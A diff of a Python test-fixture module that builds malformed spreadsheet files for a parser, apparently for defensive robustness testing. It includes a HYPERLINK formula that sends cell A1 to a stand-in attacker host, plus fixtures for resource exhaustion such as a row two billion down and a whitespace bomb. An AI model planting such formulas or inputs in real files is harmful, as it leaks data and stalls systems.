@@ -106,7 +106,9 @@ def with_data_cell(cell_xml: str) -> str:
 
 def formula_title(path: Path) -> Path:
     """What duban's old export wrote for the title =HYPERLINK(…): a formula with an empty cached value."""
-    return workbook(path, with_data_cell('<c r="B2"><f>HYPERLINK("http://evil.example/?leak="&amp;A1,"点击")</f><v></v></c>'))
+    return workbook(
+        path, with_data_cell('<c r="B2"><f>HYPERLINK("http://evil.example/?leak="&amp;A1,"点击")</f><v></v></c>')
+    )
 
 
 def truncated_xml(path: Path) -> Path:
@@ -141,7 +143,9 @@ def huger_column_ref(path: Path) -> Path:
 
 def far_row(path: Path) -> Path:
     """Once ran for minutes: a row two billion rows down."""
-    return workbook(path, sheet(rows_xml([HEADER, [PROJECT, "问题", "土地"]]) + '<row r="2000000000"><c><v>1</v></c></row>'))
+    return workbook(
+        path, sheet(rows_xml([HEADER, [PROJECT, "问题", "土地"]]) + '<row r="2000000000"><c><v>1</v></c></row>')
+    )
 
 
 def whitespace_bomb(path: Path, size: int = 300 * MiB) -> Path:
